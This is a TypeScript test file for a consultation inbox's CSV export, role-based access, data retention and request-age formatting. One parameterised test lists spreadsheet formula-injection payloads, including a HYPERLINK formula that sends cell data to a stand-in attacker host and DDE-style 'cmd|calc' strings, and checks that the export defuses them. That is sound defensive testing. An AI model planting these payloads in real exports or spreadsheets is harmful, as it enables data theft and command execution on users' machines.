import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from 'vitest';
import { ageOf } from '../src/admin/inbox/age';
import type * as Retention from '../src/retention/forget-old-requests';
import { adminToken, call } from './setup/api';
import { getDesk, type Desk } from './setup/desk';
import { consultation } from './setup/documents';
import { hire } from './setup/people';

let desk: Desk;
beforeAll(async () => {
  desk = await getDesk();
});

const UID = 'api::consultation.consultation';
const requests = () => desk.strapi.db.query(UID);

async function receive(changes: Record<string, unknown> = {}) {
  const data = consultation(changes);
  await call(desk, '/api/consultations', { token: desk.token, body: { data } });
  return data;
}

async function exported(token: string) {
  const answer = await fetch(`${desk.url}/desk/consultations.csv`, {
    headers: { authorization: `Bearer ${token}` },
  });
  // The decoder of text() would drop the mark that the file begins with.
  const bytes = Buffer.from(await answer.arrayBuffer());
  return { answer, file: bytes.toString('utf8') };
}

describe('the export of the inbox', () => {
  it('is a file of all requests for a spreadsheet, the newest first', async () => {
    const first = await receive({ name: `First ${randomUUID()}`, message: 'Two "south"\nwindows' });
    const second = await receive({ name: `Second ${randomUUID()}` });
    const { answer, file } = await exported(await hire(desk, 'sales'));
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="consultations-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(answer.headers.get('cache-control')).toBe('no-store');
    expect(file.startsWith('\uFEFF"Received","Status","Interested in","Name",')).toBe(true);
    expect(file.indexOf(second.name)).toBeLessThan(file.indexOf(first.name));
    expect(file).toContain('"Two ""south""\nwindows"');
    expect(file.split('\uFEFF"Received"')).toHaveLength(2);
  });

  it.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    '+1 403 555 0142',
    '-2+3+cmd|calc',
    '@SUM(1+1)*cmd',
    '   =1+1',
    '\uFF1D1+1',
  ])('never carries %j as a formula', async (message) => {
    await receive({ message });
    const { file } = await exported(await adminToken(desk));
    expect(file).toContain(`"'${message.trim().replaceAll('"', '""')}"`);
  });

  it('holds more requests than are read at once', async () => {
    const many = Array.from({ length: 1100 }, (_, index) =>
      consultation({ documentId: randomUUID(), stage: 'new', name: `Many ${index}` }),
    );
    await requests().createMany({ data: many });
    const { file } = await exported(await adminToken(desk));
    expect(file.match(/"Many \d+"/g)).toHaveLength(1100);
    await requests().deleteMany({ where: { name: { $startsWith: 'Many ' } } });
  });

  it.each(['strapi-editor', 'strapi-author', 'designer'])(
    'is closed to the role %s',
    async (role) => {
      expect((await exported(await hire(desk, role))).answer.status).toBe(403);
    },
  );

  it('is closed to the shop and to strangers', async () => {
    expect((await exported(desk.token)).answer.status).toBe(401);
    expect((await exported('nobody')).answer.status).toBe(401);
  });
});

describe('what a visitor told us', () => {
  it('is in no answer that any other role gets', async () => {
    const { email } = await receive({ email: `${randomUUID()}@example.com` });
    const places = [
      `/content-manager/collection-types/${UID}`,
      `/content-manager/collection-types/${UID}?filters[email][$eq]=${email}`,
      '/content-manager/homepage/recent-documents?action=update',
      '/content-manager/homepage/recent-documents?action=publish',
      `/content-manager/relations/${UID}/createdBy`,
      `/content-manager/uid/check-availability`,
    ];
    for (const role of ['strapi-editor', 'strapi-author', 'designer']) {
      const token = await hire(desk, role);
      for (const place of places) {
        expect(JSON.stringify((await call(desk, place, { token })).body)).not.toContain(email);
      }
    }
  });
});

describe('the rule of retention', () => {
  const forget = (options: object) =>
    desk
      .compiled<typeof Retention>('retention/forget-old-requests')
      .forgetOldRequests(desk.strapi, options);
  const now = new Date('2031-02-28T12:00:00Z');

  async function receivedOn(createdAt: string) {
    const { submissionKey } = await receive();
    await requests().updateMany({ where: { submissionKey }, data: { createdAt } });
    return async () => (await requests().count({ where: { submissionKey } })) === 1;
  }

  it('forgets what is older than 24 months, and nothing younger', async () => {
    await forget({ now });
    const old = await receivedOn('2029-02-28T11:59:59.000Z');
    const young = await receivedOn('2029-02-28T12:00:01.000Z');
    expect(await forget({ now, dryRun: true })).toBe(1);
    expect([await old(), await young()]).toEqual([true, true]);
    expect(await forget({ now })).toBe(1);
    expect([await old(), await young()]).toEqual([false, true]);
  });

  it('counts from the last day where a month is too short', async () => {
    await forget({ now });
    const kept = await receivedOn('2029-02-28T12:00:01.000Z');
    await forget({ now: new Date('2029-03-31T12:00:00Z'), months: 1 });
    expect(await kept()).toBe(true);
  });

  it.each([0, -1, 1.5, NaN])('is refused for %s months', async (months) => {
    await expect(forget({ months })).rejects.toThrow('whole number');
  });
});

describe('the age of a request', () => {
  const now = new Date('2026-11-21T12:00:00Z');
  it.each([
    ['2026-11-21T11:59:30Z', 'just now'],
    ['2026-11-21T11:58:00Z', '2 minutes ago'],
    ['2026-11-21T11:00:00Z', '1 hour ago'],
    ['2026-11-18T11:00:00Z', '3 days ago'],
  ])('%s is %s', (moment, age) => {
    expect(ageOf(new Date(moment), now)).toBe(age);
  });
});
